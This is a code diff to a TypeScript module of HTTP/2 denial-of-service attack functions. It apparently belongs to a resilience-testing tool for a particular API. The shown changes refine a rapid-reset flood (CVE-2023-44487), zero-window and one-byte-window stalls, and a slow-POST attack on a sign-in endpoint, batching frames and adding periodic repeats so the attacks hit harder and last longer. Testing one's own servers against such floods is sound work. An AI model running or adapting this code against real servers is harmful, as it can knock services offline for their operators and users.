@@ -16,7 +16,7 @@ const headers = (stream: number, payload: Buffer, bits: number = flags.endHeader
 const reset = (stream: number): Buffer =>
   encodeFrame({ type: frameTypes.resetStream, flags: 0, stream, payload: Buffer.from([0, 0, 0, 8]) });
 
-/** Opens streams and resets them at once, some 8,000 a second (CVE-2023-44487). */
+/** Opens streams and resets them at once, 2,000 a second on each connection, until it is cut off (CVE-2023-44487). */
 export const rapidReset: Attack = (options) =>
   keepOpen(options, { protocol: 'h2', count: 4 }, (socket, tally) => {
     socket.resume();
@@ -51,10 +51,9 @@ export const closedWindows: Attack = (options) =>
     socket.resume();
     socket.write(greeting([[settingIds.initialWindowSize, 0]]));
     const block = get('/api/openapi.json');
-    for (let stream = 1; stream < 500; stream += 2) {
-      tally.sent++;
-      socket.write(headers(stream, block));
-    }
+    const streams = Array.from({ length: 250 }, (_, index) => headers(index * 2 + 1, block));
+    tally.sent += streams.length;
+    socket.write(Buffer.concat(streams));
   });
 
 /** Asks for documents and opens the window by one byte at a time. */
@@ -63,13 +62,15 @@ export const trickledWindows: Attack = (options) =>
     socket.resume();
     socket.write(greeting([[settingIds.initialWindowSize, 0]]));
     const block = get('/api/openapi.json');
-    for (let stream = 1; stream < 120; stream += 2) socket.write(headers(stream, block));
+    const streams = Array.from({ length: 60 }, (_, index) => index * 2 + 1);
+    socket.write(Buffer.concat(streams.map((stream) => headers(stream, block))));
+    const payload = Buffer.from([0, 0, 0, 1]);
+    const updates = Buffer.concat(
+      streams.map((stream) => encodeFrame({ type: frameTypes.windowUpdate, flags: 0, stream, payload })),
+    );
     every(100, socket, () => {
-      for (let stream = 1; stream < 120; stream += 2) {
-        tally.sent++;
-        const payload = Buffer.from([0, 0, 0, 1]);
-        socket.write(encodeFrame({ type: frameTypes.windowUpdate, flags: 0, stream, payload }));
-      }
+      tally.sent += streams.length;
+      socket.write(updates);
     });
   });
 
@@ -87,13 +88,19 @@ export const controlFlood: Attack = (options) =>
     });
   });
 
-/** POSTs on every stream whose bodies never come. */
+/** POSTs on every stream whose bodies never come, and as many again every 40 s. */
 export const missingBodies: Attack = (options) =>
   keepOpen(options, { protocol: 'h2', count: 20 }, (socket, tally) => {
     socket.resume();
     socket.write(greeting());
-    for (let stream = 1; stream < 200; stream += 2) {
-      tally.sent++;
-      socket.write(headers(stream, get('/api/v1/auth/sign-in', 'POST'), flags.endHeaders));
-    }
+    const block = get('/api/v1/auth/sign-in', 'POST');
+    let stream = 1;
+    const post = (): void => {
+      const frames: Buffer[] = [];
+      for (let index = 0; index < 100; index++, stream += 2) frames.push(headers(stream, block, flags.endHeaders));
+      tally.sent += frames.length;
+      socket.write(Buffer.concat(frames));
+    };
+    post();
+    every(40_000, socket, post);
   });
